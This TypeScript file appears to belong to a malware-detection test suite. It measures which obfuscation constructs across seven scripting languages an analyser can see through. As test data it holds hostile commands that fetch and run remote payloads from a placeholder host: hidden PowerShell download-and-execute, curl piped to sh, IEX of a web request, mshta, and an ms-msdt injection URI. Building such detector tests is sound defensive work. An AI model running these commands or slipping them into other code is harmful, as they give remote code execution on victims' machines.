/** Which constructs of each language the evaluators follow: measured by programs whose text goes through the construct. */
import { type Language, languages } from '../metamorphic/techniques.ts'
import { vbaConstructs, vbscriptConstructs } from './basic.ts'
import { javascriptConstructs } from './javascript.ts'
import { pythonConstructs } from './python.ts'
import { batchConstructs, powershellConstructs, shellConstructs } from './shells.ts'

const HOST = '192.0.2.66'
const DOWNLOAD = `powershell -w hidden -c iwr http://${HOST}/a.exe -outfile a.exe; start a.exe`
const MSDT = 'ms-msdt:/id pcwdiagnostic /skip force /param it_browseforfile=/../../$(calc).exe'
const PIPED = `curl -s http://${HOST}/a.sh | sh`

interface Subject {
  language: string
  constructs: Record<string, string>
  /** Constructs that hide their text, whatever it is: nobody writes them for a harmless one. */
  hiding: readonly string[]
  threat: string
  harmless: string
  /** A condition that only running the program can tell. */
  unknown: string
  literal(text: string): string
  sink(value: string): string
  /** Definitions and statements as a document. */
  wrap(definitions: string, lines: string): { name: string; bytes: Buffer }
}

function subject(
  name: string,
  constructs: Record<string, string>,
  [threat, harmless]: readonly [string, string],
  sink: (value: string) => string,
  hiding: readonly string[] = [],
): Subject {
  const { kit, wrap } = languages[name] as Language
  return {
    language: name,
    constructs,
    hiding,
    threat,
    harmless,
    unknown: kit.never,
    literal: (text) => kit.text(text),
    sink,
    wrap: (definitions, lines) => wrap(kit.program(definitions ? [definitions] : [], [lines])),
  }
}

const NOTEPAD = 'notepad c:\\temp\\a.txt'

const subjects: readonly Subject[] = [
  {
    ...subject('page', javascriptConstructs, [MSDT, 'https://www.example.com/'], (u) => `location.href = ${u};`),
    language: 'JavaScript',
    unknown: 'window.foo9',
  },
  subject('VBScript', vbscriptConstructs, [DOWNLOAD, NOTEPAD], (u) => `CreateObject("WScript.Shell").Run ${u}, 0`, [
    'Hex and &H',
    'Execute',
    'ExecuteGlobal',
  ]),
  subject('VBA', vbaConstructs, [DOWNLOAD, NOTEPAD], (u) => `Shell ${u}, 0`, ['Hex and &H']),
  subject('Python', pythonConstructs, [PIPED, 'ls -l'], (u) => `__import__("os").system(${u})`, ['str.translate']),
  subject('PowerShell', powershellConstructs, [`IEX (iwr http://${HOST}/a.ps1)`, 'Get-Date'], (u) => `IEX ${u}`, [
    '-join, -split and -replace',
    '-replace with groups',
    '-split by an escaped text',
    'characters of text',
    '[Convert] and bases',
    'Base64 and encodings',
  ]),
  subject('shell', shellConstructs, [PIPED, 'ls -l'], (u) => `bash -c ${u}`, ['tr', 'rev']),
  subject('batch', batchConstructs, [`mshta http://${HOST}/a.hta`, 'type c:\\help\\a.txt'], (u) => u),
]

/** The construct with this text in it. */
function programOf(of: Subject, construct: string, text: string) {
  const half = text.length >> 1
  const values: Readonly<Record<string, string>> = {
    T: of.literal(text),
    H: of.literal(of.harmless),
    A: of.literal(text.slice(0, half)),
    B: of.literal(text.slice(half)),
    C: of.unknown,
    T0: text,
  }
  const written = (of.constructs[construct] ?? '').replace(/\b(?:[THABC]|T0)\b/g, (name) => values[name] ?? name)
  const at = written.indexOf('\n--\n')
  const lines = written.slice(at < 0 ? 0 : at + 4).split('\n')
  const last = lines.pop() ?? ''
  const body = [...lines, of.sink(last)].join('\n')
  const inner = (value: string) => of.sink(value).replace(/;$/, '')
  return of.wrap(
    at < 0 ? '' : written.slice(0, at),
    body.replace(/SINK\(([^\n]*?)\)(?= |$|\)|;)/gm, (_all, value) => inner(value)).replaceAll('SINK0', of.sink(text)),
  )
}

/** `joined`: with an unknown condition, the values of both ways. */
type Coverage = 'followed' | 'joined' | 'unknown'

const OPEN = /\bC\b|unknown|not known/

export interface Row {
  language: string
  construct: string
  coverage: Coverage
  /** The same program with a harmless text is infected. */
  isAccused: boolean
}

/** `isInfected`: the verdict of the analyser. */
export function measure(isInfected: (document: { name: string; bytes: Buffer }) => boolean): Row[] {
  return subjects.flatMap((of) =>
    Object.entries(of.constructs).map(([construct, source]) => ({
      language: of.language,
      construct,
      coverage: coverageOf(isInfected(programOf(of, construct, of.threat)), `${construct} ${source}`),
      isAccused: !of.hiding.includes(construct) && isInfected(programOf(of, construct, of.harmless)),
    })),
  )
}

function coverageOf(isFound: boolean, source: string): Coverage {
  if (!isFound) return 'unknown'
  return OPEN.test(source) ? 'joined' : 'followed'
}

/** A list for each language. */
export function renderCoverage(rows: readonly Row[]): string {
  const lists = subjects.map(({ language }) => {
    const lines = (['followed', 'joined', 'unknown'] as const).flatMap((coverage) => {
      const found = rows.filter((row) => row.language === language && row.coverage === coverage)
      if (found.length === 0) return []
      return [`- **${coverage}** (${found.length}): ${found.map(({ construct }) => `\`${construct}\``).join(', ')}\n`]
    })
    return `\n## ${language}\n\n${lines.join('')}`
  })
  return `${lists.join('')}\n`
}
